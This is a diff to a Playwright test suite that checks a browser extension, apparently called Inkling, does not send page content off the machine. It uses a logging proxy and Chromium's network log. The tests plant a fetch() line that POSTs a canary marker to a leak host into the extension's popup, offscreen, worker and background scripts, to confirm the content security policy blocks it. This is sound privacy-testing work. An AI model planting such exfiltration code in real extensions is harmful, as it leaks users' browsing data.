@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { DIST, ExtensionBrowser } from '../../tools/extension.ts';
 import { expect, test } from './fixtures.ts';
 import { type LoggingProxy, startLoggingProxy } from './loggingProxy.ts';
@@ -18,6 +20,9 @@ const HTML = `<!doctype html><html lang="en"><title>Town</title>
 <p>Congratulations! You have won a free zorblatt cruise! Click now to claim your prize!!!</p>
 <p>You are a complete idiot and nobody wants you here, you stupid pemmicanry.</p>`;
 
+/** The extension's own contexts. */
+const CONTEXTS = ['popup', 'offscreen', 'worker', 'background'] as const;
+
 const FETCH = `fetch('http://${LEAK}/', { method: 'POST', mode: 'no-cors', body: '${CANARIES[0]}' }).catch(() => {});`;
 
 let proxy: LoggingProxy;
@@ -32,9 +37,16 @@ test.afterEach(async () => {
   await planted.remove();
 });
 
-/** Reads the page; with an extension, also teaches it something and restarts its engine. */
-async function walk(extension: string | null, isWhole = true): Promise<void> {
-  const inkling = await ExtensionBrowser.launch({ extension, args: proxy.args });
+/**
+ * Reads the page; with an extension, also teaches it something and restarts its engine. Returns the browser's
+ * own log of its network, which also knows what never came as far as a proxy.
+ */
+async function walk(extension: string | null, isWhole = true): Promise<string> {
+  const netLog = join(planted.folder, 'net-log.json');
+  const inkling = await ExtensionBrowser.launch({
+    extension,
+    args: [...proxy.args, `--log-net-log=${netLog}`],
+  });
   try {
     const page = await inkling.context.newPage();
     await page.goto(PAGE);
@@ -47,11 +59,19 @@ async function walk(extension: string | null, isWhole = true): Promise<void> {
       await page.reload();
       await inkling.judged(page);
     }
+    if (extension && !isWhole) await inkling.openPopup(page);
     // Whatever waits for an idle moment gets one.
     await page.waitForTimeout(1500);
   } finally {
     await inkling.close();
   }
+  return readFileSync(netLog, 'utf8');
+}
+
+/** The hosts of the web that the browser's own log names, sorted. */
+function hostsIn(netLog: string): string[] {
+  const hosts = [...netLog.matchAll(/"(?:https?|wss?):\/\/([^/":]+)/g)].map(([, host]) => host);
+  return [...new Set(hosts)].sort();
 }
 
 function canariesIn(log: readonly string[]): string[] {
@@ -59,18 +79,20 @@ function canariesIn(log: readonly string[]): string[] {
 }
 
 test('the extension causes no connection, and nothing of the page leaves', async () => {
-  await walk(null);
+  const netLogWithout = await walk(null);
   const hostsWithout = proxy.hosts();
   expect(hostsWithout).toEqual(['town.test']);
+  expect(hostsIn(netLogWithout)).toContain('town.test');
 
-  await walk(DIST);
+  const netLog = await walk(DIST);
   expect(proxy.hosts()).toEqual(hostsWithout);
-  expect(canariesIn(proxy.log)).toEqual([]);
+  expect(hostsIn(netLog)).toEqual(hostsIn(netLogWithout));
+  expect(canariesIn([...proxy.log, netLog])).toEqual([]);
   tried(
     'leaves',
     'a walk behind a logging proxy with marker words: read, correct, kill, read again',
     1,
-    `hosts ${proxy.hosts().join(', ')}, with and without Inkling; 0 of ${CANARIES.length} marker words in what was sent`,
+    `hosts asked for ${proxy.hosts().join(', ')}, with and without Inkling, and the same ones in Chromium’s own network log; 0 of ${CANARIES.length} marker words in what was sent`,
   );
 });
 
@@ -83,17 +105,17 @@ test('a leak planted in the content script is seen', async () => {
 });
 
 test('leaks planted in the extension’s own contexts are stopped by the policy', async () => {
-  for (const script of ['offscreen', 'worker', 'background'] as const) await planted.plant(script, FETCH);
+  for (const script of CONTEXTS) await planted.plant(script, FETCH);
   await walk(planted.folder, false);
   expect(proxy.hosts()).not.toContain(LEAK);
   tried(
     'leaves',
-    'a leak planted in offscreen page, worker and service worker at once is stopped by the policy',
+    'a leak planted in popup, offscreen page, worker and service worker at once is stopped by the policy',
     1,
   );
 });
 
-for (const script of ['offscreen', 'worker', 'background'] as const) {
+for (const script of CONTEXTS) {
   test(`without the policy, a leak planted in the ${script} script is seen`, async () => {
     await planted.plant(script, FETCH);
     await planted.loosenPolicy();
